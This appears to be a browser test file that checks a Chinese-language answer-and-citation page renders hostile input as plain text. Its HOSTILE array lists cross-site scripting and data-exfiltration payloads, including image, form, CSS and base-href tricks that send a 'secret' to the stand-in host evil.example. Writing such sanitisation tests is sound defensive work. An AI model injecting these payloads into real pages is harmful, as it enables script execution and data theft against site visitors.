import { describe, expect, it } from 'vitest';
import { HAS_CHROMIUM } from './support/chromium.ts';
import { answerOf, OUTPUT_CITATION, OUTPUT_SOURCE, stream } from './support/fake-desk.ts';
import { browserSuite, send, useVisitors, ZH } from './support/visitor.ts';

/** Shapes of mark-up that carry data out or run code, in an answer, a title, a quote or a question. */
const HOSTILE = [
  '<img src="https://evil.example/?q=secret" onerror="alert(1)">',
  '<script>alert(1)</script><svg/onload=alert(2)>',
  '![图](https://evil.example/pixel.png?q=secret)',
  '[点这里](javascript:alert(1))',
  '[原文][a]，见<https://evil.example/>，[a]: https://evil.example/',
  '"><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)>',
  '<style>@import "https://evil.example/a.css";</style><base href=https://evil.example/>',
];

describe.skipIf(!HAS_CHROMIUM)(browserSuite('the visitor page before hostile text'), () => {
  const { visit } = useVisitors();

  it.each(HOSTILE)('treats hostile text as text: %s', async (payload) => {
    const citation = {
      ...OUTPUT_CITATION,
      title: payload,
      locator: payload,
      quote: `${payload}。`,
      highlights: [],
    };
    const answer = answerOf({
      text: `${payload}[1]`,
      citations: [citation],
      suggestions: [payload],
      notice: payload,
    });
    const source = {
      ...OUTPUT_SOURCE,
      title: payload,
      locator: payload,
      before: payload,
      passage: citation.quote,
    };
    const { page, server, foreign, surprises } = await visit(
      { [payload]: stream(answer) },
      {
        sources: {
          'passage-output': { ...source, after: payload, documentNumber: payload, sourceUrl: payload },
        },
        about: {
          name: payload,
          contact: { name: payload, phone: payload, telegram: payload, hours: payload },
        },
      },
    );
    await send(page, payload);
    await page.getByText(ZH.copy).waitFor();
    expect(await page.locator('.answer-text').textContent()).toContain(payload);
    await page.locator('.source').click();
    await page.locator('.panel .passage').waitFor();
    const smuggled = 'img, iframe, script:not([src]), form:not(.composer), video, object, embed, base, style';
    expect(await page.locator('#page').locator(smuggled).count()).toBe(0);
    for (const link of await page.locator('a').all())
      expect(await link.getAttribute('href')).toMatch(
        /^(tel:|https:\/\/t\.me\/|\/source\/passage-output#cited$)/,
      );
    expect(foreign).toEqual([]);
    expect(surprises).toEqual([]);
    expect(page.url()).toBe(`${server.origin}/`);
  });
});
